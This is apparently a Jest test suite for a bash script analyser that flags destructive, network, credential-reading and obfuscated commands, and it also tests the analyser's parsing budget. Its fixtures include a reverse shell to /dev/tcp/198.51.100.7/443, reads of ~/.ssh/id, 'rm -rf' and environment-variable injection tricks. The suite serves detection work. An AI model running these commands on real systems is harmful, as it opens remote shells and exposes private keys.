import { describe, expect, it } from '@jest/globals';
import { learntBy, shown } from '../../../../test/support/recording-runner.ts';
import { loadBash, type ParseBash, type Tree } from './bash-tree.ts';
import { Facts } from './facts.ts';
import { readProgram } from './read-program.ts';
import { ScriptReader } from './script-reader.ts';

/** What a script would do, what it prints behind `=`, and what files hold then behind `<`. */
async function readLine(script: string, stdin?: string): Promise<string> {
  const reader = new ScriptReader(new Facts(), await loadBash(), readProgram);
  const printed = shown(reader.script(script, stdin));
  reader.finish();
  const files = [...reader.files].map(([name, text]) => `${shown(name)}<${shown(text)}`);
  return [`${learntBy(reader.facts)} = ${printed}`.trim(), ...files].join('; ').replaceAll('\n', '~');
}

const SCRIPTS: readonly (readonly [what: string, rows: readonly (readonly [script: string, read: string])[]])[] = [
  [
    'output',
    [
      ['echo a; echo b', '$echo = a~b'],
      ['echo a && echo b', '$echo = a~b'],
      ['(echo a; echo b)', '$echo = a~b'],
      ['{ echo a; } > f', 'deletes writes $echo f =; f<a~'],
      ['echo a > f', 'deletes writes $echo f =; f<a~'],
      ['echo a >> f; echo b >> f', 'writes $echo f =; f<a~b~'],
      ['echo a > f; echo b > f', 'deletes writes $echo f =; f<b~'],
      ['echo a >> ./f', 'writes $echo ./f =; ./f<a~'],
      ['echo a 2> f', 'deletes writes $echo f = a; f<<2> f>'],
      ['echo a 12> f', 'deletes writes $echo f = a; f<<12> f>'],
      ['echo a 1> f', 'deletes writes $echo f =; f<a~'],
      ['echo a &> f', 'deletes writes $echo f =; f<a~'],
      ['echo a &>> f', 'writes $echo f =; f<a~'],
      ['echo a >& f', 'deletes writes $echo f =; f<a~'],
      ['echo a >| f', 'deletes writes $echo f =; f<a~'],
      ['echo a 2>&1', '$echo = a'],
      ['echo a 2>&-', '$echo = a'],
      ['echo a >&2', '$echo = a'],
      ['echo a > /dev/stdout', '$echo = a; /dev/stdout<a~'],
      ['echo a > /proc/self/fd/1', 'deletes writes $echo /proc/self/fd/1 = a; /proc/self/fd/1<a~'],
      ['echo a > /dev/tty', '$echo = a; /dev/tty<a~'],
      ['echo a > /x/dev/tty', 'deletes writes $echo /x/dev/tty =; /x/dev/tty<a~'],
      ['echo a > /dev/ttyS', 'destructive deletes writes $echo /dev/ttyS =; /dev/ttyS<a~'],
      ['echo a > f > g', 'deletes writes $echo f g =; f<a~; g<a~'],
      ['echo a > f > /dev/stdout', 'deletes writes $echo f =; f<a~; /dev/stdout<a~'],
      ['echo a >f b', 'deletes writes $echo f =; f<a b~'],
      ['echo >f a >g b', 'deletes writes $echo f g =; f<a b~; g<a b~'],
      ['rm 2>/dev/null -rf x', 'destructive deletes writes $rm = <rm -rf x>; /dev/null<<2>/dev/null -rf x>'],
      ['echo <f a2>g', 'deletes writes $echo g =; /dev/fd/<<f>; g<a2~'],
      [
        'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
        'unread deletes writes network pipeToInterpreter $bash @198.51.100.7 =; /dev/fd/<^</dev/tcp/198.51.100.7/443>; /dev/tcp/198.51.100.7/443<^<output>',
      ],
      ['ls | rm >f -rf x', 'destructive deletes writes $ls $rm f =; f<<rm -rf x>'],
      ['ls && rm >f -rf x', 'destructive deletes writes $ls $rm f = <ls>; f<<rm -rf x>'],
      ['! rm >f -rf x', 'destructive deletes writes $rm f =; f<<rm -rf x>'],
      ['export >f a=b; $a', 'deletes writes $export $b f = <b>; f<<export a=b>'],
      ['unset >f a', 'deletes writes $unset f =; f<<unset a>'],
      ['a=1 <<E rm -rf x\nE', 'destructive deletes writes $rm = <rm -rf x>; /dev/fd/<'],
      ['{ ls; } >f rm', 'deletes writes $ls $rm f =; f<<ls><rm>'],
      ['echo a > "b c"', 'deletes writes $echo b c =; b c<a~'],
      ["echo a > ~/x'*'", 'deletes writes $echo ~/x* =; ~/x*<a~'],
      ['> f', 'deletes writes f =; f<'],
      ['echo a > ""', '$echo = a'],
      ['exec > f; sh f', 'unread deletes writes network obfuscated $exec $sh f = <output>; f<<exec>'],
      ['exec 3> f; sh f', 'unread deletes writes network obfuscated $exec $sh f = <exec><output>; f<<3> f>'],
      ['echo a > >(sh)', 'unread deletes writes network obfuscated $sh $echo >(sh) =; >(sh)<a~'],
      ['tee >(sh)', 'unread deletes writes network obfuscated $sh $tee = <output>in; >(sh)<<output>in'],
      ['tee >(cat > f)', 'deletes writes $cat $tee f = in; f<<input>; >(cat > f)<in'],
    ],
  ],
  [
    'input',
    [
      ['cat', '$cat = in'],
      ['cat < f', '$cat = <f>; /dev/fd/<<f>'],
      ['cat 0< f', '$cat = <f>; /dev/fd/0<<f>'],
      ['echo a > f; cat < f', 'deletes writes $echo $cat f = a; f<a~; /dev/fd/<a~'],
      ['echo a > f; cat 3< f', 'deletes writes $echo $cat f = in; f<a~; /dev/fd/3<a~'],
      ['echo a > f; cat 3< f <&3', 'deletes writes $echo $cat f = a; f<a~; /dev/fd/3<a~; /dev/fd/<a~'],
      ['cat <&3', '$cat = <3>; /dev/fd/<<3>'],
      ['cat <&-', '$cat = in'],
      ['cat <&0', '$cat = in'],
      ['cat 3<&0', '$cat = in'],
      ['cat < /dev/tcp/a.example/80', '$cat = ^</dev/tcp/a.example/80>; /dev/fd/<^</dev/tcp/a.example/80>'],
      [
        'cat < x/dev/tcp/a.example/80',
        '$cat x/dev/tcp/a.example/80 = <x/dev/tcp/a.example/80>; /dev/fd/<<x/dev/tcp/a.example/80>',
      ],
      ['cat < ~/.ssh/id', 'credentialRead $cat ~/.ssh/id = <~/.ssh/id>; /dev/fd/<<~/.ssh/id>'],
      ['cat > ~/.ssh/id', 'deletes writes $cat ~/.ssh/id =; ~/.ssh/id<in'],
      ['cat 2> ~/.ssh/id', 'deletes writes $cat ~/.ssh/id = in; ~/.ssh/id<<2> ~/.ssh/id>'],
      ['cat <<< a', '$cat = a; /dev/fd/<a'],
      ['cat <<< "a  b"', '$cat = a  b; /dev/fd/<a  b'],
      ['cat <<< a-*', '$cat = a-*; /dev/fd/<a-*'],
      ['$(<f)', 'unread deletes writes network obfuscated = <f>; /dev/fd/<<f>'],
      ['x=$(<~/.ssh/id); echo $x', 'credentialRead $echo ~/.ssh/id = <~/.ssh/id>; /dev/fd/<<~/.ssh/id>'],
      ['echo a > f; echo $(<f)', 'deletes writes $echo f = a; f<a~; /dev/fd/<a~'],
      ['echo a > f; ls | cat < f', 'deletes writes $echo $ls $cat f = a; f<a~; /dev/fd/<a~'],
      ['{ cat; } < f', '$cat = <f>; /dev/fd/<<f>'],
      ['cat <<E\na\nE', '$cat = a; /dev/fd/<a~'],
      ['cat <<E\na $(echo b) c\nE', '$echo $cat = a b c; /dev/fd/<a b c~'],
      ['cat <<"E"\n$(rm x)\nE', '$cat = $(rm x); /dev/fd/<$(rm x)~'],
      ["cat <<'E'\n$(rm x)\nE", '$cat = $(rm x); /dev/fd/<$(rm x)~'],
      ['cat <<\\E\n$(rm x)\nE', '$cat = $(rm x); /dev/fd/<$(rm x)~'],
      ['cat <<E\n"$(rm x)"\nE', 'deletes writes $rm $cat = "<rm x>"; /dev/fd/<"<rm x>"~'],
      ["cat <<'E'\na\\$b\nE", '$cat = a\\$b; /dev/fd/<a\\$b~'],
      ['cat <<-E\n\ta\n\tE', '$cat = a; /dev/fd/<a~\t'],
      ['cat <<E | tr a b\na\nE', '$cat $tr = !b; /dev/fd/<a~'],
      ['cat <<E && echo b\na\nE', '$cat $echo = a~b; /dev/fd/<a~'],
      ['cat <<E || cat\na\nE', '$cat = a~in; /dev/fd/<a~'],
      ['cat <<E > f\na\nE', 'deletes writes $cat f =; /dev/fd/<a~; f<a~'],
      ['cat <<E 2> f\na\nE', 'deletes writes $cat f = a; /dev/fd/<a~; f<<2> f>'],
      ['cat 3<<E <&3\na\nE', '$cat = a; /dev/fd/3<a~; /dev/fd/<a~'],
      ['cat /dev/fd/3 3<<E\na\nE', '$cat /dev/fd/3 = a~in; /dev/fd/3<a~'],
      ['rm <<E -rf x\nE', 'destructive deletes writes $rm = <rm -rf x>; /dev/fd/<'],
      ['cat <<E', 'unread deletes writes network $cat = in<cat>'],
      ['a=x; a+=y; cat <<E\n$a\nE', '$cat = x~~xy; /dev/fd/<x~~xy~'],
      ['echo a | cat', '$echo $cat = a'],
      ['echo a | cat | tr a b', '$echo $cat $tr = !b'],
      ['ls | cat', '$ls $cat = <ls>'],
      ['cat | cat', '$cat = in'],
      ['cat |& cat', '$cat = in'],
      ['echo a 2>/dev/null | cat', '$echo $cat = a; /dev/null<<2>/dev/null>'],
      ['echo a | # b\n cat', '$echo $cat = a'],
      ['time cat', '$cat = in'],
    ],
  ],
  [
    'words',
    [
      ['# rm x', '='],
      ['ls # rm x', '$ls = <ls>'],
      ['a=(ls -l); ${a[@]}', '$ls = <ls -l>'],
      ['a=(x y); ${a}', 'writes $x = <x y><x>'],
      ['a=([0]=ls [1]=-l); ${a[@]}', '$ls = <ls -l>'],
      ['a=(a[0]=b); ${a[@]}', 'unread deletes writes network obfuscated = <a[0]=b>'],
      ['a=([]=b); ${a[@]}', 'writes $b = <b>'],
      ['a[1]=ls; ${a[1]}', '$ls = <ls>'],
      ['a[$(rm x)]=b', 'deletes writes $rm ='],
      ['a=ls; a+=x; $a', 'writes $ls $lsx = <ls><lsx>'],
      ['a=(x); a+=(y); ${a[@]}', 'writes $x = <x><x y>'],
      ['a+=ls; $a', '$ls = <ls>'],
      ['a+=(ls); ${a[@]}', '$ls = <ls>'],
      ['a=; ${a}ls', 'obfuscated $ls = <ls>'],
      ['a= ls', '$ls = <ls>'],
      ['a=ls true; $a', '$true $ls = <true><ls>'],
      ['declare a=ls; $a', '$declare $ls = <declare =><ls>'],
      ['declare -x a', '$declare = <declare -x a>'],
      ['export a=b c', '$export = <export = c>'],
      ['unset a', '$unset = <unset a>'],
      ['a=1; unset a; $a', 'writes $unset $1 = <unset a><1>'],
      ['$"rm" x', 'deletes writes $rm = <rm x>'],
      ['$"a"$"b"', 'writes $ab = <ab>'],
      ['echo $"a b"', '$echo = a b'],
      ['$ ls', 'unread deletes writes network obfuscated = <$ ls>'],
      ['echo "a$"', '$echo = a$'],
      ['"$" ls', 'writes $$ = <$ ls>'],
      ['$"r"$"m" x', 'deletes writes $rm = <rm x>'],
      ['r$"m" x', 'deletes writes obfuscated $rm = <rm x>'],
      ['$"" ls', '$ls = <ls>'],
      ['echo $ a', '$echo = $ a'],
      ["$'ls'", '$ls = <ls>'],
      ['"ls" x', '$ls = <ls x>'],
      ['l"s" x', 'obfuscated $ls = <ls x>'],
      ['r$(ls)m', 'unread deletes writes network obfuscated $ls = <rlsm>'],
      ['{ls,-l}', 'unread deletes writes network $ls = <ls -l>'],
      ['for i in ls cat; do $i; done', '$ls $cat = <ls>in'],
      [
        'for i in; do $i; done',
        'unread deletes writes network obfuscated $for $do $done = <$i><for i in><do $i><done>',
      ],
      ['for i; do $i; done', 'unread deletes writes network obfuscated = <$i>'],
      ['for ((i=$(rm x);;)); do ls; done', 'deletes writes $rm $ls = <ls>'],
      ['select i in ls; do $i; done', '$ls = <ls>'],
      ['case $(ls) in $(cat)) rm x;; esac', 'deletes writes $ls $cat $rm = <ls>in<rm x>'],
      ['[[ $(rm x) ]]', 'deletes writes $rm = <rm x>'],
      ['(( $(rm x) ))', 'deletes writes $rm = <rm x>'],
      ['[ -f x ]', '='],
      ['test -f $(rm x)', 'deletes writes $rm $test = <test -f rm x>'],
      ['PROMPT_COMMAND=ls', '$ls ='],
      ['PROMPT_COMMAND=(ls cat)', '$ls ='],
      ['PROMPT_COMMAND=ls; PROMPT_COMMAND+=x', 'writes $ls $lsx ='],
      ['XENV=ls', '='],
      ['ENVX=ls', '='],
      ['ENV=ls', '$ls ='],
      ['LD_PRELOAD=./x', 'writes $x ='],
      ['EDITOR=ls', '$ls ='],
      ['GIT_EDITOR=ls', '$ls ='],
      ['GIT_PAGER=ls', '$ls ='],
      ['MANPAGER=ls', '$ls ='],
      ['SSH_ASKPASS=ls', '$ls ='],
      ['XEDITOR=ls', '='],
      ["PS1='$(ls)'", '$ls $: ='],
      ["PS4='`ls`'", '$ls $: ='],
      ["PS5='$(ls)'", '='],
      ["XPS1='$(ls)'", '='],
      ["PS12='$(ls)'", '='],
      ["PS1='$'", '='],
      ['PS1=\'$(echo "a b")\'', '$echo $: ='],
      ['coproc { rm x; }', 'deletes writes $rm $} = <rm x><}>'],
      ['coproc n { rm x; }', 'deletes writes $rm $} = <rm x><}>'],
      ['coproc rm x', 'deletes writes $rm = <rm x>'],
      ['echo { rm x', '$echo = { rm x'],
      ['LS -l', '$ls = <ls -l>'],
    ],
  ],
  [
    'functions',
    [
      ['f() { echo a; }; f', '$echo = a'],
      ['f() { echo $1; }; f a', '$echo = a'],
      ['f() { cat; }; echo a | f', '$echo $cat = a'],
      ['f() { $1; }', 'unread deletes writes network obfuscated ='],
      ['f() { $1; }; f ls', '$ls = <ls>'],
      ['f() { f; }; f', '= <f>'],
      ['f() { f; }; f | ls', '$ls = <ls>'],
      ['f() { f | f; }; f', 'destructive deletes writes = <f>'],
      ['f() { f & }; f', 'destructive deletes writes = <f>'],
      ['f() { echo a; } > g; f', 'deletes writes $echo g =; g<a~'],
      ['f() { cat; } <<< a; f', '$cat = a; /dev/fd/<a'],
      ['f() (echo a); f', '$echo = a'],
      ['f() { g; }; g() { ls; }; f', '$ls = <ls>'],
      ['f() { ls; }; f() { cat; }; f', '$ls $cat = in'],
      ['f() { ls; }; f; f() { cat; }; f', '$ls $cat = <ls>in'],
      ['function f { ls; }; f', '$ls = <ls>'],
      ['f() { echo a; }; x=$(f); $x', 'writes $echo $a = <a>'],
      ['f() { ls; }; "f"', '$ls = <ls>'],
      ['if ls; then cat; fi', '$ls $cat = <ls>in'],
      ['while ls; do cat; done', '$ls $cat = <ls>in'],
      ['f() { while read x; do $x; done; }; f <<< ls', '$read $ls = <read x><ls>; /dev/fd/<ls'],
    ],
  ],
  [
    'errors',
    [
      ['ls ; ;', 'unread deletes writes network $ls = <ls><ls>'],
      ['if ls; then', 'unread deletes writes network $ls $if $then = <ls><if ls><then>'],
      ['echo a; cat <<E', 'unread deletes writes network $echo $cat = a~ina~<cat>'],
      ['rm x )', 'unread deletes writes network $rm = <rm x><rm x>'],
      ['ls | | rm x', 'unread deletes writes network $ls $rm = <rm x><ls><rm x>'],
      ['echo "a', 'unread deletes writes network $echo = ~a'],
      ['$(rm x', 'unread deletes writes network obfuscated $rm $$ = <rm x><$><rm x>'],
      ['f() {', 'unread deletes writes network $f ${ = <f><f><{>'],
    ],
  ],
];

describe.each(SCRIPTS)('a script is walked as the shell runs it: %s', (_what, rows) => {
  it.each(rows)('%j: %s', async (script, read) => {
    expect(await readLine(script, 'in')).toBe(read);
  });
});

const NOTHING: Tree = { root: { type: 'program', field: undefined, start: 0, end: 0, children: [] }, hasError: false };
const readerOf = (parse: ParseBash = () => NOTHING) => new ScriptReader(new Facts(), parse, readProgram);

it('what is read costs steps, and what is left when they are used up is not read', () => {
  const reader = readerOf();
  for (let count = 0; count < 20_000; count += 1) reader.run([], undefined);
  expect(reader.facts.parsed).toBe(true);
  expect(reader.run(['ls'], undefined)).toBe('');
  expect(shown(reader.script('echo a'))).toBe('<>');
  expect(reader.facts.toReading()).toMatchObject({ parsed: false, deletes: true, commands: [] });
});

it('the last step is still taken', () => {
  const reader = readerOf();
  for (let count = 0; count < 19_998; count += 1) reader.run([], undefined);
  expect(shown(reader.run(['ls', 'a', 'b', 'c', 'd'], undefined))).toBe('<ls a b c d>');
  expect(reader.facts.parsed).toBe(true);
  reader.run([], undefined);
  expect(reader.facts.parsed).toBe(false);
});

it.each([
  [
    'words',
    9,
    (reader: ScriptReader) =>
      reader.run(
        Array.from({ length: 9996 }, () => 'true'),
        undefined,
      ),
  ],
  ['characters', 99, (reader: ScriptReader) => reader.script(' '.repeat(42_450))],
])('%s cost steps', (_what, count, work) => {
  const reader = readerOf();
  for (let done = 0; done < count; done += 1) work(reader);
  expect(reader.facts.parsed).toBe(true);
  work(reader);
  work(reader);
  expect(reader.facts.parsed).toBe(false);
});

it('of a script that costs too much, nothing is walked', async () => {
  const parse = await loadBash();
  const reader = readerOf(parse);
  for (let count = 0; count < 19_960; count += 1) reader.run([], undefined);
  expect(shown(reader.script('a; b; c; d; e; f; g; h; i; j'))).toBe('<a><b><c><d>');
  const { parsed, commands } = reader.facts.toReading();
  expect({ parsed, commands }).toEqual({ parsed: false, commands: ['a', 'b', 'c', 'd'] });
});

it('four levels are read, the next one is not', () => {
  const reader = readerOf();
  let depth = 0;
  const deeper = (): void => {
    depth += 1;
    if (depth < 4) reader.nested(deeper);
  };
  reader.nested(deeper);
  expect([depth, reader.facts.parsed]).toEqual([4, true]);
  depth = -10;
  reader.nested(deeper);
  expect(depth).toBe(-6);
  expect(reader.facts.toReading()).toMatchObject({ parsed: false, obfuscated: true });
});

/** Which pieces a script of `count` lines is read in, where none can be read at once and the first `broken` not at all. */
function piecesOf(
  count: number,
  broken: number,
): { lines: number[]; parsed: boolean; commands: readonly string[]; printed: string } {
  const script = Array.from({ length: count }, (_, at) => `c${String(Math.floor(at / 375))}\n`).join('');
  const lines: number[] = [];
  const reader = readerOf((piece) => {
    if (piece === script) return undefined;
    lines.push(piece.split('\n').length - 1);
    return lines.length > broken ? NOTHING : { ...NOTHING, hasError: true };
  });
  const printed = shown(reader.script(script)).replaceAll(/(<c\d>)+/g, '$1');
  const { parsed, commands } = reader.facts.toReading();
  return { lines, parsed, commands, printed };
}

it('what costs the parser too much is read in pieces', () => {
  expect(piecesOf(1000, 0)).toEqual({ lines: [375, 375, 250], parsed: true, commands: [], printed: '' });
});

it('the words of a piece that cannot be parsed are read as commands', () => {
  const { printed, ...rest } = piecesOf(750, 1);
  expect(rest).toEqual({ lines: [375, 375], parsed: false, commands: ['c0'] });
  expect(printed).toBe('<c0>');
});

it('after three pieces that cannot be parsed, no further one is tried', () => {
  const { lines, commands } = piecesOf(2000, 9);
  expect(lines).toEqual([375, 375, 375]);
  expect(commands).toEqual(['c0', 'c1', 'c2', 'c3', 'c4', 'c5']);
});
